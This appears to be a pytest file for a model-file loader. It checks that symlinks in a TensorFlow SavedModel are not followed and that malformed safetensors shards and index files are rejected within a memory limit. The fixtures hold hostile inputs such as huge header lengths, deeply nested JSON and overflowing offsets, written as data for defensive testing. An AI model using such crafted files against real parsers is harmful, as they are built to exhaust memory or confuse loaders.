@pytest.mark.tensorflow
def test_links_in_a_saved_model(sandbox: Path) -> None:
    pytest.importorskip("tensorflow")
    first = sandbox / "first"
    code = "import sys, tensorflow as tf; m = tf.Module(); m.w = tf.Variable([1.0] * 8); "
    code += "tf.saved_model.save(m, *sys.argv[1:])"
    subprocess.run([sys.executable, "-c", code, str(first)], check=True, capture_output=True)

    def make(folder: Path) -> Path:
        (first / "assets" / "text").write_bytes(b"text")
        return Path(shutil.copytree(first, folder / "model"))

    members = ("saved_model.pb", "variables/variables.index", "variables/variables.data-00000-of-00001", "assets/text")
    assert_links_are_not_followed(sandbox, make, (*members, "variables", "assets"))


# ------------------------------------------------------------------------------------------------ T40: safetensors
def entry(shape: list[int], start: int, end: int, dtype: str = "F32") -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


SHARD = safetensors_file({"w": entry([8], 0, 32)}, SECRET.tobytes())
HOSTILE_SHARDS = {
    "a header beyond the end": (1 << 62).to_bytes(8, "little") + b"{}",
    "a header of nothing": bytes(8),
    "a deep header": b"".join([(200_000).to_bytes(8, "little"), b"{" + b'"a":{' * 40_000]).ljust(200_008, b" "),
    "extents": safetensors_file({"w": entry([1 << 40, 1 << 20], 0, 32)}, SECRET.tobytes()),
    "offsets": safetensors_file({"w": entry([8], 0, 1 << 62)}, SECRET.tobytes()),
    "offsets that overlap": safetensors_file({"w": entry([8], 0, 32), "v": entry([8], 0, 32)}, SECRET.tobytes()),
    "the same offsets": safetensors_file({"w": entry([8], 0, 32), "v": entry([8], 0, 32)}, SECRET.tobytes() * 2),
    "a hole": safetensors_file({"w": entry([8], 32, 64)}, SECRET.tobytes() * 2),
    "nobody's bytes": SHARD + b"more",
    "another name": safetensors_file({"v": entry([8], 0, 32)}, SECRET.tobytes()),
    "empty": b"",
}
HOSTILE_INDICES = {
    "no object": '{"weight_map": ["x"]}',
    "no names": '{"weight_map": {"w": 3}}',
    "a shard that is not there": '{"weight_map": {"w": "none.safetensors"}}',
    "twice": '{"weight_map": {"w": "x.safetensors", "w": "x.safetensors"}}',
    "deep": '{"weight_map": ' + '{"a":' * 100_000,
    "a number of many digits": '{"weight_map": {}, "metadata": {"total_size": ' + "9" * 10_000 + "}}",
    "not Unicode": '{"weight_map": {"\\ud800": "x.safetensors"}}',
    "itself": '{"weight_map": {"w": "model.safetensors.index.json"}}',
}


@pytest.mark.parametrize("kind", [*HOSTILE_SHARDS, *HOSTILE_INDICES])
def test_t40_safetensors(kind: str, tmp_path: Path) -> None:
    """Single files, and shards of an index, are tested."""
    (tmp_path / "x.safetensors").write_bytes(HOSTILE_SHARDS.get(kind, SHARD))
    index = tmp_path / "model.safetensors.index.json"
    index.write_text(HOSTILE_INDICES.get(kind, '{"weight_map": {"w": "x.safetensors"}}'))
    for path in [index, tmp_path, *([tmp_path / "x.safetensors"] if kind in HOSTILE_SHARDS else [])]:
        if (kind, path.name) == ("another name", "x.safetensors"):
            continue
        with memory() as used, pytest.raises((FormatError, LimitError)):
            dict(formats.load(path, format="safetensors").tensors)
        assert used.peak < 8 << 20
